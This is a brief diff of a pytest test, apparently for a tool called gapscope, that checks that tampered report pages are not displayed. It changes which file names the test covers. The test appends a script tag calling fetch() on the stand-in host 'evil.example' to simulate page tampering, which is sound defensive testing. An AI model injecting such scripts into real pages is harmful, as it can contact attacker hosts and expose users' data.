@@ -330,7 +330,7 @@ def copy(run: Run, tmp_path: Path) -> Run:
     return open_run(tmp_path / "run")
 
 
-@pytest.mark.parametrize("name", ["index.html", "page.js", "plotly.min.js"])
+@pytest.mark.parametrize("name", ["index.html", "page.js", "start.js"])
 def test_a_page_that_is_not_gapscopes_own_is_not_shown(copy: Run, name: str) -> None:
     path = copy.report.parent / name
     path.write_text(path.read_text() + "<script>fetch('//evil.example/')</script>")
